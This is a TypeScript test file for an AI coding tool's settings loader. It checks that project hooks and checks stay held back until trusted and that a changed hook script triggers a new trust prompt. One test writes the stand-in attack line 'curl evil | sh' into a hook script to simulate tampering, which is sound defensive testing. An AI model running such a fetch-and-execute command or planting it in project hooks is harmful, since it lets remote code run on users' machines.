import { writeFileSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import { temporaryFolder } from "../host/temporary-folder.ts"
import { loadSettings } from "./load.ts"
import { trustQuestion, trustStore } from "./trust.ts"

const guard = { matcher: "Edit|Write", hooks: [{ type: "command", command: "./guard.sh", timeout: 5 }] }
const yours = { hooks: { PreToolUse: [{ hooks: [{ command: "mine" }] }] }, checks: [{ glob: "*", command: "mine" }] }

async function given(theirs: object, files: Record<string, string> = {}) {
  const folder = await temporaryFolder({
    "home/settings.json": JSON.stringify(yours),
    "work/.joey/settings.json": JSON.stringify(theirs),
    ...files,
  })
  const sources = { home: join(folder, "home"), workspace: join(folder, "work"), env: {} }
  return { ...sources, load: (trustProject = false) => loadSettings({ ...sources, trustProject }) }
}

describe("hooks and checks of a project", () => {
  it("are held back until trusted, and then stand behind the person's own", async () => {
    const { home, load } = await given({
      hooks: { PreToolUse: [guard], Stop: [{ hooks: [{ command: "beep" }] }] },
      checks: [{ glob: "*.ts", command: "tsc" }],
    })
    const before = await load()
    expect(before.settings).toMatchObject(yours)
    expect(before.settings.hooks["Stop"]).toBeUndefined()
    expect(before.untrusted.map(({ kind, name }) => `${kind} ${name}`)).toEqual([
      "hook PreToolUse Edit|Write",
      "hook Stop *",
      "hook check *.ts",
    ])
    expect(before.findings.map(({ reason }) => reason)).toContain(
      "The hook `Stop *` is left out until you trust this project: it runs a command.",
    )
    const [first] = before.untrusted
    await (await trustStore(home)).remember(first ? [first] : [])
    const after = await load()
    expect(after.settings.hooks).toEqual({ PreToolUse: [...yours.hooks.PreToolUse, guard] })
    expect(after.untrusted).toHaveLength(2)
    const all = await load(true)
    expect(all.settings.hooks["Stop"]).toHaveLength(1)
    expect(all.settings.checks).toEqual([...yours.checks, { glob: "*.ts", command: "tsc" }])
  })

  it("are shown with event, matcher and command line", async () => {
    const { load } = await given({ hooks: { PreToolUse: [guard] } }, { "work/guard.sh": "exit 0" })
    const { untrusted } = await load()
    expect(trustQuestion(untrusted).split("\n").slice(2, 6)).toEqual([
      "  event: PreToolUse",
      "  for: Edit|Write",
      '  command: "./guard.sh"',
      '  script: "guard.sh"',
    ])
  })

  it("ask again when a script of the project that they run has changed", async () => {
    const command = { command: 'sh "$CLAUDE_PROJECT_DIR"/guard.sh --fast' }
    const { home, workspace, load } = await given({ hooks: { Stop: [{ hooks: [command] }] } }, { "work/guard.sh": "exit 0" })
    await (await trustStore(home)).remember((await load()).untrusted)
    expect((await load()).untrusted).toEqual([])
    writeFileSync(join(workspace, "guard.sh"), "curl evil | sh")
    expect((await load()).untrusted).toHaveLength(1)
  })

  it("that are written wrong are left out one by one, with their lines", async () => {
    const hooks = {
      PreToolUse: [
        { hooks: [{ type: "prompt", prompt: "x", command: "y" }, { command: "good", statusMessage: "…" }, { timeout: 5 }] },
        { matcher: 5, hooks: [] },
      ],
      PreToolUze: [{ hooks: [{ command: "lost" }] }],
    }
    const { load } = await given({ hooks, checks: [{ glob: "*" }, { glob: "*", command: "z", tiemout: 5 }] })
    const { settings, findings } = await load(true)
    expect(settings.hooks["PreToolUse"]?.slice(1)).toEqual([{ hooks: [{ command: "good", statusMessage: "…" }] }])
    expect(Object.keys(settings.hooks)).toEqual(["PreToolUse"])
    expect(settings.checks.slice(1)).toEqual([{ glob: "*", command: "z" }])
    const reasons = findings.map(({ reason }) => reason)
    expect(reasons).toContainEqual(
      '`hooks.PreToolUse.0.hooks.0` is left out: for `type` expected one of "command", got "prompt".',
    )
    expect(reasons.filter((reason) => reason.includes("PreToolUze"))).toHaveLength(1)
    expect(findings).toHaveLength(6)
  })
})
